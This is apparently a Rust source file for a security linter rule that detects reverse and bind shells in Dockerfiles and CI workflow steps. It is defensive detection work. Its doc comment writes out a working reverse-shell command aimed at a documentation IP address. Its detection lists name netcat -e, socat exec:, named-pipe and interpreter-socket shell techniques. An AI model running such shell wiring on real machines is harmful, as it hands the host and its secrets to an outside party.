use crate::parse::Document;
use crate::parse::dockerfile::exec_form;
use crate::parse::shell::{self, Command, Script};
use crate::rules::{Context, declare_rule};
use crate::source::Span;

declare_rule! {
    /// ## What it does
    /// Flags an interactive shell wired to a network socket — a reverse or bind shell — in
    /// Dockerfile `RUN`, `CMD`, `ENTRYPOINT` and `HEALTHCHECK` (shell form, or `sh -c` in the
    /// exec form) and in workflow and composite-action `run:` steps:
    /// - an interactive shell (`sh`, `bash`, `zsh`, `dash -i`) redirected to `/dev/tcp/…` or
    ///   `/dev/udp/…` (`bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`), or `exec N<>/dev/tcp/…`
    ///   whose descriptor a shell, or a `while read … do $line` loop, then reads;
    /// - `nc`, `netcat`, `ncat` or `busybox nc` with `-e`, `-c`, `--exec`, `--sh-exec` or
    ///   `--lua-exec`, connecting or listening (bind shells count);
    /// - `mkfifo` (or `mknod … p`) with a shell and `nc`/`ncat`/`telnet`/`openssl s_client` in
    ///   one pipeline, and `telnet H P | sh | telnet H P2`;
    /// - `socat` with a network address (`tcp:`, `tcp-listen:`, `udp:`, `openssl:`…) and
    ///   `exec:` or `system:`;
    /// - an interpreter one-liner (`python -c`, `perl -e`, `php -r`, `ruby -e`, `node -e`,
    ///   `pwsh -c`) holding both a socket and a shell hook-up (`dup2`, `pty.spawn`, `/bin/sh`,
    ///   `cmd.exe`, `exec(`, `spawn(`, `Invoke-Expression`). `-EncodedCommand` cannot be read
    ///   and is not reported.
    ///
    /// Port probes are not shells: `nc -z`, `</dev/tcp/host/port`, `echo > /dev/tcp/…`, an
    /// `exec 3<>/dev/tcp/…` HTTP request read with `cat <&3`, `socat` port forwards, and socket
    /// checks without a shell. The host does not matter: a loopback reverse shell is reported
    /// too. Interactive debug sessions (`tmate`, `upterm`) are out of scope. The finding points
    /// at the wiring: the `/dev/tcp/…` word, the `nc … -e` span, `mkfifo`, `socat` or the
    /// interpreter.
    ///
    /// ## Why is this bad?
    /// A shell wired to a socket hands the build machine or the runner — with its secrets, its
    /// token and its network — to whoever is at the other end. No legitimate build needs one;
    /// it is the signature of a compromised dependency, a malicious pull request or an
    /// injected command.
    ///
    /// ## Example
    /// ```yaml
    /// on: push
    /// permissions: {}
    /// jobs:
    ///   build:
    ///     runs-on: ubuntu-24.04
    ///     steps:
    ///       - run: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
    /// ```
    ///
    /// ## Use instead
    /// Remove it. To wait for a service, probe its port:
    /// ```yaml
    /// on: push
    /// permissions: {}
    /// jobs:
    ///   build:
    ///     runs-on: ubuntu-24.04
    ///     steps:
    ///       - run: until nc -z localhost 5432; do sleep 1; done
    /// ```
    pub static REVERSE_SHELL = {
        id: "reverse-shell",
        summary: "shell wired to a network socket",
        level: Error,
        kinds: [Dockerfile, Workflow, Action],
        tags: ["security", "malicious-code", "external/cwe/cwe-506"],
        security_severity: Some("9.5"),
        check: Some(check),
    }
}

const HELP: &str = "remove it: no build or workflow needs a shell wired to a socket; if it came from a dependency or a pull request, treat the machine and its secrets as compromised";

const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ash", "ksh", "mksh"];

fn check(doc: &Document, cx: &mut Context) {
    let mut scripts = super::scripts(doc, cx);
    if let Document::Dockerfile(file) = doc {
        // CMD, ENTRYPOINT and HEALTHCHECK run at container start: their shell form (or an
        // exec-form `sh -c`) is checked like a RUN.
        for ins in &file.instructions {
            if !matches!(ins.keyword.as_str(), "CMD" | "ENTRYPOINT" | "HEALTHCHECK") {
                continue;
            }
            let rest = &ins.rest;
            let text = rest.text.as_str();
            let lead = text.len() - text.trim_start().len();
            let (from, body) = match text[lead..].strip_prefix("CMD") {
                Some(after) if ins.keyword == "HEALTHCHECK" => (lead + 3, after),
                _ if ins.keyword == "HEALTHCHECK" => continue,
                _ => (lead, &text[lead..]),
            };
            if let Some(items) = exec_form(body) {
                let shell_c = items.len() >= 3
                    && SHELLS.contains(&items[0].rsplit('/').next().unwrap_or(""))
                    && items[1] == "-c";
                if shell_c {
                    // Inside the item where it is written without escapes; else the whole.
                    let quoted = serde_json::to_string(&items[2]).unwrap_or_default();
                    let inner = text[from..]
                        .find(&quoted)
                        .filter(|_| quoted.len() == items[2].len() + 2)
                        .map(|at| from + at + 1);
                    let whole = rest.span(from..text.len());
                    scripts.push(super::ScriptRef::Owned(shell::parse(
                        &items[2],
                        &|r| match inner {
                            Some(at) => rest.span(at + r.start..at + r.end),
                            None => whole,
                        },
                    )));
                }
                continue;
            }
            scripts.push(super::ScriptRef::Owned(shell::parse(body, &|r| {
                rest.span(from + r.start..from + r.end)
            })));
        }
    }
    let mut reports: Vec<(Span, String)> = Vec::new();
    for script in &scripts {
        find(script, &mut reports);
    }
    reports.sort_by_key(|(span, _)| (span.start, span.end));
    reports.dedup_by_key(|(span, _)| (span.start, span.end));
    for (span, message) in reports {
        cx.report(span, message).help(HELP);
    }
}

fn program(cmd: &Command) -> &str {
    cmd.program().unwrap_or("")
}

fn is_shell(cmd: &Command) -> bool {
    SHELLS.contains(&program(cmd))
}

fn interactive_shell(cmd: &Command) -> bool {
    // `-i`, also inside a cluster (`-li`, `-ic`).
    is_shell(cmd) && cmd.has_flag(&["-i"])
}

fn network_device(text: &str) -> bool {
    text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/")
}

fn find(script: &Script, out: &mut Vec<(Span, String)>) {
    let commands = &script.commands;
    for (i, cmd) in commands.iter().enumerate() {
        let name = program(cmd);
        // R1: an interactive shell redirected to a network device.
        if interactive_shell(cmd)
            && let Some((_, target)) = cmd.redirects.iter().find(|(_, t)| network_device(&t.text))
        {
            out.push((
                target.span,
                format!(
                    "`{name} -i` is redirected to `{}`: a reverse shell",
                    target.text
                ),
            ));
        }
        // R1: `exec N<>/dev/tcp/…`, then a shell or a `read` loop fed from a descriptor (the
        // lexer keeps no descriptor numbers, so any `<&N`/`>&N` after the `exec` counts).
        if name == "exec"
            && let Some((_, target)) = cmd
                .redirects
                .iter()
                .find(|(op, t)| op.contains("<>") && network_device(&t.text))
        {
            let uses_fd = |c: &Command| {
                c.redirects.iter().any(|(o, t)| {
                    (o.ends_with("<&") || o.ends_with(">&"))
                        && !t.text.is_empty()
                        && t.text.bytes().all(|b| b.is_ascii_digit())
                })
            };
            let later = &commands[i + 1..];
            let shell_reads = later.iter().any(|c| is_shell(c) && uses_fd(c));
            let read_loop = later.iter().any(uses_fd)
                && later.iter().any(|c| program(c) == "read")
                && later
                    .iter()
                    .any(|c| c.name().is_some_and(|n| n.starts_with('$')));
            if shell_reads || read_loop {
                out.push((
                    target.span,
                    format!(
                        "`exec` opens `{}` and a shell reads from it: a reverse shell",
                        target.text
                    ),
                ));
            }
        }
        // R2: netcat with a program to run.
        let netcat = matches!(name, "nc" | "netcat" | "ncat")
            || (name == "busybox" && cmd.args().first().is_some_and(|w| w.text == "nc"));
        if netcat
            && let Some(flag) = cmd.args().iter().find(|w| {
                shell::flag_matches(&w.text, &["-e", "-c", "--exec", "--sh-exec", "--lua-exec"])
            })
        {
            let start = cmd.words.first().map_or(flag.span, |w| w.span);
            let shown = if name == "busybox" {
                "busybox nc"
            } else {
                name
            };
            out.push((
                start.to(flag.span),
                format!(
                    "`{shown} {}` runs a program for whoever connects: a reverse or bind shell",
                    flag.text
                ),
            ));
        }
        // R4: socat joining a network address to a program.
        if name == "socat" {
            let lower: Vec<String> = cmd
                .args()
                .iter()
                .map(|w| w.text.to_ascii_lowercase())
                .collect();
            let network = lower.iter().any(|a| {
                [
                    "tcp:",
                    "tcp4:",
                    "tcp6:",
                    "tcp-connect:",
                    "tcp4-connect:",
                    "tcp-listen:",
                    "tcp4-listen:",
                    "tcp6-listen:",
                    "udp:",
                    "udp4:",
                    "udp-listen:",
                    "openssl:",
                    "openssl-connect:",
                    "openssl-listen:",
                    "ssl:",
                ]
                .iter()
                .any(|p| a.starts_with(p))
            });
            let program = lower
                .iter()
                .any(|a| a.starts_with("exec:") || a.starts_with("system:"));
            if network && program {
                let span = cmd.words[0].span;
                out.push((
                    span,
                    "`socat` joins a network address to `exec:`/`system:`: a reverse or bind shell"
                        .to_string(),
                ));
            }
        }
        // R5: an interpreter one-liner with a socket and a shell.
        if let Some(code) = one_liner(cmd)
            && [
                "socket.",
                "Socket",
                "fsockopen",
                "TCPSocket",
                "net.connect",
                "net.Socket",
                "Net.Sockets.TCPClient",
            ]
            .iter()
            .any(|m| code.contains(m))
            && [
                "dup2",
                "pty.spawn",
                "/bin/sh",
                "/bin/bash",
                "cmd.exe",
                "exec(",
                "spawn(",
                "iex",
                "Invoke-Expression",
            ]
            .iter()
            .any(|m| code.contains(m))
        {
            out.push((
                cmd.words[0].span,
                format!("`{name}` one-liner connects a socket to a shell: a reverse shell"),
            ));
        }
    }
    // R3: a named pipe with a shell and a network client in one pipeline.
    for cmd in commands {
        let fifo = program(cmd) == "mkfifo"
            || (program(cmd) == "mknod" && cmd.args().iter().any(|w| w.text == "p"));
        if !fifo {
            continue;
        }
        let wired = commands.iter().any(|c| {
            let pipeline: Vec<&Command> = script.pipeline_of(c).collect();
            pipeline.len() > 1
                && pipeline.iter().any(|p| is_shell(p))
                && pipeline.iter().any(|p| network_client(p))
        });
        if wired {
            out.push((
                cmd.words[0].span,
                "A named pipe joins a shell to a network connection: a reverse shell".to_string(),
            ));
        }
    }
    // R3: `telnet H P | sh | telnet H P2`.
    for cmd in commands.iter().filter(|c| program(c) == "telnet") {
        let pipeline: Vec<&Command> = script.pipeline_of(cmd).collect();
        if cmd.position == 0
            && pipeline.iter().any(|p| is_shell(p))
            && pipeline.iter().filter(|p| program(p) == "telnet").count() >= 2
        {
            out.push((
                cmd.words[0].span,
                "`telnet … | sh | telnet …` joins a shell to two connections: a reverse shell"
                    .to_string(),
            ));
        }
    }
}

fn network_client(cmd: &Command) -> bool {
    let name = program(cmd);
    matches!(name, "nc" | "netcat" | "ncat" | "telnet")
        || (name == "openssl" && cmd.args().first().is_some_and(|w| w.text == "s_client"))
}

/// The code of an interpreter one-liner (`python3 -c CODE`, `perl -e CODE`, `php -r CODE`,
/// `ruby -e CODE`, `node -e CODE`, `pwsh -c CODE`).
fn one_liner(cmd: &Command) -> Option<String> {
    let name = program(cmd);
    let flags: &[&str] = if name.starts_with("python") {
        &["-c"]
    } else if name == "perl" || name == "ruby" || name == "node" || name == "nodejs" {
        &["-e", "-rsocket"]
    } else if name.starts_with("php") {
        &["-r"]
    } else if matches!(name, "pwsh" | "powershell" | "powershell.exe" | "pwsh.exe") {
        if cmd
            .args()
            .iter()
            .any(|w| w.text.to_ascii_lowercase().starts_with("-enc"))
        {
            return None;
        }
        &["-c", "-command", "-Command"]
    } else {
        return None;
    };
    let args = cmd.args();
    let at = args.iter().position(|w| flags.contains(&w.text.as_str()))?;
    // The code is the rest of the command line (PowerShell takes every word after -Command).
    Some(
        args[at + 1..]
            .iter()
            .map(|w| w.text.as_str())
            .collect::<Vec<_>>()
            .join(" "),
    )
}
